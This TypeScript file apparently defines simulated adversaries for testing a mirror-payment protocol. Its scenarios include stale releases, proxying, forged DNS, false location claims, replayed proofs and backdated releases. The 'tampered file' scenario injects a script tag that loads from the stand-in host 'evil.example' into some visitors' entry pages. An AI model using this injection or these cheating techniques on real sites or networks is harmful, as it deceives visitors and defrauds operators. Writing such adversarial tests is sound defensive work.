import { utf8ToBytes } from '@noble/hashes/utils.js'
import {
  answerTemplate,
  challengePath,
  parseChallenge,
  possessionDigest,
} from '@understudy/protocol/challenge'
import { cities } from '@understudy/protocol/cities'
import type { NostrEvent } from '@understudy/protocol/event'
import { parseEvent } from '@understudy/protocol/event'
import { distanceKm } from '@understudy/protocol/place'
import type { Answer, Asked } from '../simulation/internet.ts'
import type { SimulatedMirror } from '../simulation/mirror.ts'
import { budget, ordinary, type World } from '../simulation/world.ts'
import type { Adversary } from './adversary.ts'

const thiefOf = (world: World): SimulatedMirror => world.dice.of('thief').pick(world.mirrors)

/** Where place counts: 2f + 1 attesters beside each mirror, each near enough to prove its place, so that f of them decide nothing. */
export const mapped = {
  attesters: 7,
  mirrors: 4,
  cities: 2,
  faults: 1,
  places: 4,
  epochs: 1,
  levels: ['continent', 'network'],
} as const

const nothing = (thief: SimulatedMirror) => ({ suspects: [{ mirrors: [thief.id], due: 'nothing' as const }] })
const noMoreThanTruth = (thief: SimulatedMirror) => ({
  suspects: [{ mirrors: [thief.id], due: 'truth' as const }],
})

/** Serves the first release for ever, and says so or not. */
export const staleCommit: Adversary = {
  name: 'stale commit',
  lie: 'to be paid without following releases',
  enter(world) {
    const thief = thiefOf(world)
    thief.lies = { stopsAt: 1 }
    world.time.at(world.atBurn(world.beginOf(0) - 3), () => world.release())
    return nothing(thief)
  },
}

/** Changes the entry page for some visitors; at least M attesters look like these. */
export const tamperedFile: Adversary = {
  name: 'tampered file for some',
  lie: 'to change what visitors see and be paid for it',
  setting: { attesters: 5 },
  enter(world) {
    const thief = thiefOf(world)
    const fooled = new Set(world.dice.of('fooled').draw(world.attesters, 3))
    thief.lies = {
      content(asked, genuine) {
        const answer = genuine()
        const entry = asked.path === '/index.html' || asked.path === '/'
        const among = [...fooled].some((attester) => attester === asked.from)
        return entry && among
          ? { ...answer, body: utf8ToBytes('<script src="//evil.example"></script>') }
          : answer
      },
    }
    return nothing(thief)
  },
}

/** A challenge from its bytes. */
function challengeIn(asked: Asked) {
  const event = parseEvent(JSON.parse(asked.body))
  const challenge = event.ok ? parseChallenge(event.value) : event
  return challenge.ok ? challenge.value : undefined
}

/** Holds nothing: fetches every byte from the master when it is asked for it. */
export const proxyOfMaster: Adversary = {
  name: 'proxy of the master',
  lie: 'to be paid for a copy that dies with the master',
  enter(world) {
    const thief = thiefOf(world)
    const master = {
      name: 'master',
      place: world.dice.of('master').pick(cities.filter((c) => distanceKm(c, thief.city) > 1_000)),
    }
    const trip = () =>
      world.time.wait(world.network.oneWayMs(thief, master) + world.network.oneWayMs(master, thief))
    thief.lies = {
      async content(_asked, genuine) {
        await trip()
        return genuine()
      },
      async challenge(asked) {
        const challenge = challengeIn(asked)
        const release = world.releases.find(({ commit }) => commit === challenge?.commit)
        if (!challenge || !release) return undefined
        // Each read chooses the next one: there is nothing to fetch ahead.
        const digest = await possessionDigest(challenge, release.blobs, async (oid) => {
          await trip()
          return release.objects.get(oid)!
        })
        return thief.signer.signEvent(answerTemplate(challenge, digest, Math.floor(world.time.now() / 1_000)))
      },
    }
    return nothing(thief)
  },
}

/** Hands every request on to somebody else's mirror. */
export const proxyOfRival: Adversary = {
  name: 'proxy of a mirror',
  lie: 'to be paid for what another mirror does',
  enter(world) {
    const thief = thiefOf(world)
    const rival = world.mirrors.find((mirror) => mirror !== thief)!
    const forward = async (asked: Asked): Promise<Answer | undefined> => {
      await world.time.wait(world.network.oneWayMs(thief, rival))
      const answer = await rival.answer({ ...asked, host: rival.host, from: thief })
      await world.time.wait(world.network.oneWayMs(rival, thief))
      return answer
    }
    thief.lies = {
      content: forward,
      async challenge(asked) {
        const answer = await forward({ ...asked, path: challengePath })
        const event =
          answer?.status === 200 ? parseEvent(JSON.parse(new TextDecoder().decode(answer.body))) : undefined
        return event?.ok ? event.value : undefined
      },
    }
    return nothing(thief)
  },
}

/** Two node keys and two bonds on one machine. */
export const twoOnOneHost: Adversary = {
  name: 'two mirrors on one host',
  lie: 'to be paid twice for one server',
  enter(world) {
    const [one, other] = world.mirrors as [SimulatedMirror, SimulatedMirror]
    Object.assign(other, { city: one.city, asn: one.asn })
    const fees = budget / 100n
    return {
      suspects: [
        {
          mirrors: [one.id, other.id],
          due: 'nothing',
          extra: (budget - fees + 3n) / BigInt(world.setting.places),
        },
      ],
    }
  },
}

/** Its name leads to a rival, whose content passes for its own. */
export const forgedDns: Adversary = {
  name: 'forged DNS',
  lie: "to be paid for a rival's server",
  enter(world) {
    const thief = thiefOf(world)
    const rival = world.mirrors.find((mirror) => mirror !== thief)!
    world.internet.name(thief.host, () => [rival.address])
    return nothing(thief)
  },
}

/** Announces a place on the other side of the Earth. */
export const placeFarAway: Adversary = {
  name: 'place claimed far away',
  lie: 'to be paid for a place where it is not',
  setting: mapped,
  enter(world) {
    const thief = thiefOf(world)
    const away = [...cities].sort((a, b) => distanceKm(b, thief.city) - distanceKm(a, thief.city))
    thief.lies = { claims: away[0]! }
    return noMoreThanTruth(thief)
  },
}

/** Answers everything late by the same, so that its discs are wide. */
export const delayedAnswers: Adversary = {
  name: 'delayed answers',
  lie: 'to seem to stand anywhere',
  setting: mapped,
  enter(world) {
    const thief = thiefOf(world)
    const delay = 20 + world.dice.of('delay').below(400)
    thief.lies = {
      async content(_asked, genuine) {
        await world.time.wait(delay)
        return genuine()
      },
      async challenge(_asked, genuine) {
        await world.time.wait(delay)
        return genuine()
      },
      ...(world.dice.of('claim').chance(0.5) ? { claims: world.dice.of('where').pick(cities) } : {}),
    }
    return noMoreThanTruth(thief)
  },
}

/** Says nothing of where it stands. */
export const hiddenPlace: Adversary = {
  name: 'hidden place',
  lie: 'to share with nobody',
  setting: mapped,
  enter(world) {
    const thief = thiefOf(world)
    thief.lies = { claims: null }
    return noMoreThanTruth(thief)
  },
}

/** Records its first answers while it holds the files, then plays them again and again. */
export const replayedAnswers: Adversary = {
  name: 'replayed answers',
  lie: 'to be paid for files that it deleted',
  enter(world) {
    const thief = thiefOf(world)
    const recorded: NostrEvent[] = []
    const deleted = world.atBurn(world.beginOf(0) + 1)
    thief.lies = {
      async challenge(_asked, genuine) {
        if (world.time.now() < deleted) {
          const answer = await genuine()
          if (answer) recorded.push(answer)
          return answer
        }
        return recorded.at(-1)
      },
    }
    return nothing(thief)
  },
}

/** A release by the maintainer, dated long before it was made, so that every mirror is stale at once. */
export const backdatedRelease: Adversary = {
  name: 'backdated release',
  lie: 'a maintainer who would not pay',
  enter(world) {
    for (const epoch of [0, 1]) {
      const moment = world.atBurn(world.beginOf(epoch) + 20)
      world.time.at(moment, () => world.release(Math.floor(moment / 1_000) - 90 * 86_400))
    }
    // Whatever any attester made of it: all honest mirrors are due what they would have got without it.
    return { liars: world.attesters }
  },
}

/** Nobody lies: what the others are compared with. */
export const nobody: Adversary = {
  name: 'nobody',
  lie: 'none',
  setting: ordinary,
  enter: () => ({}),
}

export const lyingMirrors: readonly Adversary[] = [
  staleCommit,
  tamperedFile,
  proxyOfMaster,
  proxyOfRival,
  twoOnOneHost,
  forgedDns,
  placeFarAway,
  delayedAnswers,
  hiddenPlace,
  replayedAnswers,
  backdatedRelease,
  nobody,
]
